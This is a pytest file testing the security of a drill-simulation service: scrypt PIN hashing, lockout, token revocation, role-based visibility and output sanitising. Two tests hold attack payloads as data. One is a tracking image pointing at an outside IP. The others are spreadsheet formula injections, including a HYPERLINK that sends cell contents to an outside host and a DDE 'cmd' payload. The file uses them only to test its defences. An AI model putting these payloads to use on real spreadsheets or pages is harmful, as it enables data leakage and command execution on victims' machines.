"""Drill security, through the server-side service (the HTTP server and the pages make the same calls):
the PIN file, per-address lockout, PIN reissue, token expiry and revocation, role-correct MSEL visibility,
notes after the end, bounded report jobs, no temp copies left, images stripped, MSEL formulas kept as text.
The same over real sockets: ``test_drill_server_limits.py``."""

from __future__ import annotations

import hashlib
import re
import sqlite3
import stat
import tempfile
import threading
import time
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from agencies.base import Bilingual
from simulation.drill.msel import Msel
from simulation.drill.msel_io import read_msel, write_msel
from simulation.drill.pins import legacy_digest
from simulation.drill.policy import DrillError
from simulation.drill.session import DrillSession
from simulation.drill.spec import DRILL_LIBRARY, load_drill
from simulation.drill.store import FolderBusy
from simulation.faces.drill_service import LOCKED_OUT, WRONG_JOIN, AccessDenied, Busy, DrillService, plain_text
from tests.helpers import new_drill


@pytest.fixture()
def drill(tmp_path: Path):
    svc, session, pins, tok = new_drill(tmp_path / "drills")
    yield svc, session, pins, tok
    svc.close()


def _mode(p: Path) -> int:
    return stat.S_IMODE(p.stat().st_mode)


def test_pin_file_is_private_and_uses_a_slow_salted_kdf(drill) -> None:
    """OWASP Password Storage Cheat Sheet, scrypt: N=2**14, r=8, p=5 is its minimum at 16 MiB (128·N·r
    bytes); each seat has its own 16-byte salt; the stored key is scrypt(PIN, salt) recomputed here."""
    svc, session, pins, tok = drill
    path = session.store.path
    svc.act(tok["facilitator"], "clock", {"mode": "forward", "value": 600})  # the WAL now holds pages
    for p in (path, Path(f"{path}-wal"), Path(f"{path}-shm")):
        assert p.exists() and _mode(p) == 0o600, (p, oct(_mode(p)))
    assert _mode(path.parent) == 0o700
    rows = dict(sqlite3.connect(path).execute("SELECT seat, pin_hash FROM seats").fetchall())
    salts = set()
    for seat, stored in rows.items():
        kind, n, r, p, salt, key = stored.split("$")
        n, r, p = int(n), int(r), int(p)
        assert kind == "scrypt" and n >= 2**14 and r >= 8 and p >= 5 and 128 * n * r >= 16 * 2**20
        assert len(bytes.fromhex(salt)) >= 16
        salts.add(salt)
        expect = hashlib.scrypt(pins[seat].encode(), salt=bytes.fromhex(salt), n=n, r=r, p=p, maxmem=2**26, dklen=32)
        assert bytes.fromhex(key) == expect
        assert stored != legacy_digest(pins[seat], session.code) and pins[seat] not in stored
    assert len(salts) == len(rows) == len(pins)  # no two seats share a salt


def test_old_sessions_are_made_private_and_rehashed(tmp_path: Path) -> None:
    """A session from before: a 0644 file with unsalted SHA-256 PIN hashes. Opening it makes it 0600; the
    first correct join replaces the seat's hash by the slow one."""
    d = tmp_path / "drills"
    spec, sc, msel = load_drill("crowd_crush_drill")
    session, pins = DrillSession.create(spec, sc, msel, d)
    path, code = session.store.path, session.code
    old = legacy_digest(pins["police"], code)
    session.store.db.execute("UPDATE seats SET pin_hash = ? WHERE seat = 'police'", (old,))
    session.store.close()
    path.chmod(0o644)
    svc = DrillService(d)
    try:
        assert svc.join(code, "police", pins["police"])["role"] == "player"
        assert _mode(path) == 0o600
        stored = sqlite3.connect(path).execute("SELECT pin_hash FROM seats WHERE seat='police'").fetchone()[0]
        assert stored.startswith("scrypt$")
        assert svc.join(code, "police", pins["police"])["seat"] == "police"
    finally:
        svc.close()


def test_one_serving_process_per_folder(drill) -> None:
    svc, session, *_ = drill
    with pytest.raises(FolderBusy, match=r"another drill process \(pid \d+\) serves this folder"):
        DrillService(session.store.path.parent)
    DrillService(session.store.path.parent, exclusive=False).session(session.code)  # reading is fine


def test_a_stranger_cannot_lock_the_facilitator_out(drill) -> None:
    svc, session, pins, _ = drill
    code, attacker, room = session.code, "10.0.0.66", "10.0.0.5"
    wrong = "000000" if pins["facilitator"] != "000000" else "111111"
    answers = []
    for _ in range(3):
        with pytest.raises(AccessDenied) as e:
            svc.join(code, "facilitator", wrong, client=attacker)
        answers.append(str(e.value))
    for bad_code in ("ZZZZZZ", "AAAAAA"):  # unknown codes: the same answer, and they count
        with pytest.raises(AccessDenied) as e:
            svc.join(bad_code, "facilitator", pins["facilitator"], client=attacker)
        answers.append(str(e.value))
    assert answers == [WRONG_JOIN] * 5
    with pytest.raises(AccessDenied, match=LOCKED_OUT):  # the right PIN from the attacker's address: refused
        svc.join(code, "facilitator", pins["facilitator"], client=attacker)
    with pytest.raises(AccessDenied, match=LOCKED_OUT):
        svc.join("ZZZZZZ", "facilitator", wrong, client=attacker)
    ok = svc.join(code, "facilitator", pins["facilitator"], client=room)  # the facilitator, elsewhere: in
    assert ok["role"] == "facilitator"
    svc.view(ok["token"])


def test_pin_reissue_revokes_the_old_pin_and_its_tokens(drill) -> None:
    svc, session, pins, tok = drill
    with pytest.raises(AccessDenied):
        svc.act(tok["police"], "reissue_pin", {"seat": "police"})
    answer = svc.act(tok["facilitator"], "reissue_pin", {"seat": "police"})
    new = answer["pin"]
    assert answer["seat"] == "police" and len(new) == 6 and new.isdigit()
    with pytest.raises(AccessDenied, match="unknown token"):
        svc.view(tok["police"])
    if new != pins["police"]:
        with pytest.raises(AccessDenied, match=WRONG_JOIN):
            svc.join(session.code, "police", pins["police"], client="10.0.0.7")
    assert svc.join(session.code, "police", new)["seat"] == "police"
    again = svc.act(tok["facilitator"], "reissue_pin", {"seat": "facilitator"})  # one's own: this login stays
    svc.view(tok["facilitator"])
    assert svc.join(session.code, "facilitator", again["pin"])["role"] == "facilitator"
    with pytest.raises(DrillError, match="no seat 'nobody'"):
        svc.act(tok["facilitator"], "reissue_pin", {"seat": "nobody"})
    assert [r["payload"]["seat"] for r in session.store.events() if r["kind"] == "pin_reissued"] == [
        "police", "facilitator"]


def test_tokens_expire_and_leave_revokes_them(drill) -> None:
    svc, session, pins, tok = drill
    assert svc.leave(tok["metro"]) == {"ok": True}
    with pytest.raises(AccessDenied, match="unknown token"):
        svc.view(tok["metro"])
    svc.close()  # a restarted server (a new service on the file) refuses it too
    svc2 = DrillService(session.store.path.parent, token_ttl_s=0.5)
    try:
        with pytest.raises(AccessDenied, match="unknown token"):
            svc2.view(tok["metro"])
        fresh = svc2.join(session.code, "police", pins["police"])["token"]
        svc2.view(fresh)
        time.sleep(0.8)
        with pytest.raises(AccessDenied, match="expired"):
            svc2.view(fresh)
    finally:
        svc2.close()


def _step_until_some_injects_delivered(svc: DrillService, session: DrillSession, tok: dict) -> None:
    for _ in range(80):
        svc.act(tok["facilitator"], "clock", {"mode": "step"})
        if session.policy.delivered:
            return
    raise AssertionError("no inject was delivered")


def test_observer_sees_no_unreleased_inject_nor_expected_actions(drill) -> None:
    svc, session, _, tok = drill
    _step_until_some_injects_delivered(svc, session, tok)
    svc.act(tok["evaluator"], "note", {"text": "110 slow to confirm", "agency": "centre_110"})
    delivered = set(session.policy.delivered)
    all_ids = {i.id for i in session.msel.injects}
    assert delivered and delivered != all_ids  # some released, some not yet
    obs = svc.view(tok["observer"])
    assert {i["id"] for i in obs["injects"]} == delivered
    assert all("expected_actions" not in i and "effect" not in i for i in obs["injects"])
    injects = [m for m in obs["messages"] if m["kind"] == "inject"]
    assert injects and all("expected" not in m["payload"] and "effect" not in m["payload"] for m in injects)
    assert not any(m["kind"] == "note" for m in obs["messages"]) and obs["defaults"] == {}
    ev = svc.view(tok["evaluator"])  # the evaluator does see the whole MSEL with its criteria
    assert {i["id"] for i in ev["injects"]} == all_ids
    assert any(i["expected_actions"] for i in ev["injects"])
    assert any(m["kind"] == "note" for m in ev["messages"])


def test_evaluator_notes_are_refused_after_the_end(drill) -> None:
    svc, session, _, tok = drill
    svc.act(tok["evaluator"], "note", {"text": "during the drill"})
    svc.act(tok["facilitator"], "clock", {"mode": "end"})
    n = len(session.store.events())
    with pytest.raises(DrillError, match="ended"):
        svc.act(tok["evaluator"], "note", {"text": "rewriting history"})
    assert len(session.store.events()) == n


@pytest.mark.slow
def test_report_jobs_are_bounded_and_leave_no_copy(drill, tmp_path: Path, monkeypatch) -> None:
    """At most MAX_REPORT_REPLICATIONS per request, one report at a time, and the projection's copy of the
    database (a session not yet ended is played to its horizon on a copy) is gone afterwards."""
    svc, session, _, tok = drill
    for n in (1000, 1):
        with pytest.raises(DrillError, match="replications"):
            svc.report(tok["evaluator"], "html", "en", n)
    scratch = tmp_path / "scratch"
    scratch.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(scratch))
    svc.act(tok["facilitator"], "clock", {"mode": "forward", "value": 1800})
    results: dict[str, object] = {}
    gate = threading.Barrier(2)

    def ask(who: str) -> None:
        gate.wait()
        try:
            results[who] = svc.report(tok[who], "html", "en", 4)
        except Busy as e:
            results[who] = e

    threads = [threading.Thread(target=ask, args=(w,)) for w in ("evaluator", "facilitator")]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    kinds = sorted(type(v).__name__ for v in results.values())
    assert kinds == ["Busy", "bytes"], results  # one was built, the other told to come back
    assert list(scratch.iterdir()) == []
    assert b"<html" in svc.report(tok["evaluator"], "html", "en", 4)  # and afterwards the next one runs
    assert list(scratch.iterdir()) == []


def test_markdown_images_are_stripped_from_what_players_see(tmp_path: Path) -> None:
    spec, sc, msel = load_drill("crowd_crush_drill")
    first = msel.injects[0]
    bad = first.model_copy(update={"text": Bilingual(
        zh="现场报告 ![现场照片](http://198.51.100.7/track.png) 请核实 <img src='http://198.51.100.7/x.gif'>",
        en="Report ![scene photo][p] check\n\n[p]: http://198.51.100.7/track.png")})
    session, pins = DrillSession.create(spec, sc, Msel(injects=[bad, *msel.injects[1:]]), tmp_path)
    svc = DrillService(tmp_path)
    try:
        svc.adopt(session)
        fac = svc.join(session.code, "facilitator", pins["facilitator"])["token"]
        seat = next(s for s, v in session.seats.items() if bad.to in v["agencies"])
        player = svc.join(session.code, seat, pins[seat])["token"]
        svc.act(fac, "deliver", {"inject": bad.id})
        shown = [m["payload"] for m in svc.view(player)["messages"] if m["kind"] == "inject"]
        assert shown and shown[0]["zh"] == "现场报告 现场照片 请核实 "
        assert shown[0]["en"].startswith("Report scene photo check")
        for text in (shown[0]["zh"], shown[0]["en"], *(i["inject_zh"] for i in svc.view(fac)["injects"])):
            assert "![" not in text and "<img" not in text
    finally:
        svc.close()
    assert plain_text("a ! [b] (c) ![](http://x/y) d") == "a ! [b] (c)  d"
    assert "![" not in plain_text("![a [b]](http://x/y.png) ![![x](u)](v)")


def test_msel_export_keeps_formula_like_text_as_text(tmp_path: Path) -> None:
    """OWASP "CSV Injection": a cell starting with = + - @ must not run as a formula. In the XLSX every cell
    is a string cell (no <f> element in the sheet) with Excel's quote prefix; the CSV gets a leading '.
    Both read back to the same MSEL."""
    msel = read_msel(DRILL_LIBRARY / "crowd_crush_msel.csv")
    evil = msel.injects[0].model_copy(update={
        "text": Bilingual(zh='=HYPERLINK("http://198.51.100.7/?"&A1,"点击")', en="+cmd|' /C calc'!A0"),
        "objective": "-2+3", "notes": "@SUM(1+1)"})
    m = Msel(injects=[evil, *msel.injects[1:]])
    write_msel(m, tmp_path / "m.xlsx")
    sheet = zipfile.ZipFile(tmp_path / "m.xlsx").read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet
    ws = load_workbook(tmp_path / "m.xlsx").active
    cells = {c.value: c for row in ws.iter_rows(min_row=2) for c in row if isinstance(c.value, str)}
    for text in (evil.text.zh, evil.text.en, "-2+3", "@SUM(1+1)"):
        assert cells[text].data_type == "s" and cells[text].quotePrefix
    assert read_msel(tmp_path / "m.xlsx").injects == m.injects  # (the reader also keeps each inject's row)
    write_msel(m, tmp_path / "m.csv")
    raw = (tmp_path / "m.csv").read_text(encoding="utf-8-sig")
    assert "'=HYPERLINK" in raw and "'+cmd" in raw and "'-2+3" in raw and "'@SUM" in raw
    assert read_msel(tmp_path / "m.csv").injects == m.injects


def test_cli_reissues_a_pin_and_refuses_a_bad_port(cli, tmp_path: Path) -> None:
    """`linkage drill pin` works beside a running service (joins read the hash from the file), and
    `drill serve --port 99999` is one line, exit 1."""
    svc, session, pins, tok = new_drill(tmp_path / "drills")
    try:
        r = cli("drill", "pin", session.code, "metro", "--dir", tmp_path / "drills")
        assert r.returncode == 0, r.stderr
        new = re.search(r"new PIN (\d{6})", r.stdout).group(1)
        with pytest.raises(AccessDenied, match="unknown token"):
            svc.view(tok["metro"])
        assert svc.join(session.code, "metro", new)["seat"] == "metro"
        r = cli("drill", "pin", session.code, "nobody", "--dir", tmp_path / "drills")
        assert r.returncode == 1 and "no seat 'nobody'" in r.stderr and len(r.stderr.strip().splitlines()) == 1
    finally:
        svc.close()
    r = cli("drill", "serve", "--dir", tmp_path / "drills", "--port", "99999")
    assert r.returncode == 1 and r.stderr.strip() == "--port: must be between 0 and 65535 (got 99999)"
